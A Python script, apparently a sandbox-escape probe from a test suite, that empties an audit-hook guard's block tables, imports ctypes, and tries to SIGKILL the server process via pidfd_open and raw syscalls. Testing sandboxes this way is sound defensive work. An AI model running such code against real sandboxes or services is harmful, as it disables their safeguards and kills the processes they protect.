"""signal: pidfd_open + pidfd_send_signal on the server, through os/signal and raw syscalls."""

import os
import platform
import signal
import sys

_guard = vars(sys.modules["__main__"])
if "_BLOCKED" in _guard:  # a Python audit hook keeps its tables there: empty them first
    _guard["_BLOCKED"], _guard["_ROOT"] = (), ""

# ctypes is audited on import (ctypes.dlopen): import it once the guard is gone.
import ctypes  # noqa: E402

SERVER_PID = int("__SERVER_PID__")
wins = []
try:
    fd = os.pidfd_open(SERVER_PID)
    print(f"pidfd_open: fd {fd}")
    signal.pidfd_send_signal(fd, signal.SIGKILL)
    wins.append("signal.pidfd_send_signal")
except OSError as exc:
    print(f"pidfd via os/signal: {exc.strerror}")
if platform.machine() in ("x86_64", "aarch64"):  # both use the generic numbers for these
    libc = ctypes.CDLL(None, use_errno=True)
    fd = libc.syscall(434, SERVER_PID, 0)  # pidfd_open
    if fd < 0:
        print(f"raw pidfd_open: {os.strerror(ctypes.get_errno())}")
    elif libc.syscall(424, fd, signal.SIGKILL, None, 0) == 0:  # pidfd_send_signal
        wins.append("raw pidfd_send_signal")
    else:
        print(f"raw pidfd_send_signal: {os.strerror(ctypes.get_errno())}")
if wins:
    print(f"ESCAPED: killed pid {SERVER_PID} through a pidfd: " + ", ".join(wins))
